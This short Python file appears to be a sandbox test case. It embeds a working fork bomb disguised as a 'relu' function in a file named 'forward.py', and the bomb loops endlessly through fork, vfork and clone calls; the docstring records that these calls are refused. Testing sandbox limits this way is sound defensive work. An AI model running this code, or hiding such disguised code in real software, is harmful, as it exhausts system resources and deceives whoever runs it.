"""Fork bomb

Tried: start processes without end, by every call that can.

Stopped: fork, vfork, clone and clone3 are refused.
"""

BOMB = r"""
import ctypes, os

libc = ctypes.CDLL(None)

def relu(x):
    while True:
        for start in (os.fork, lambda: libc.fork(), lambda: libc.vfork(), lambda: libc.syscall(56, 17, 0, 0, 0, 0)):
            try:
                start()
            except OSError:
                pass
"""

VARIANTS = {"every call": {"forward.py": BOMB}}
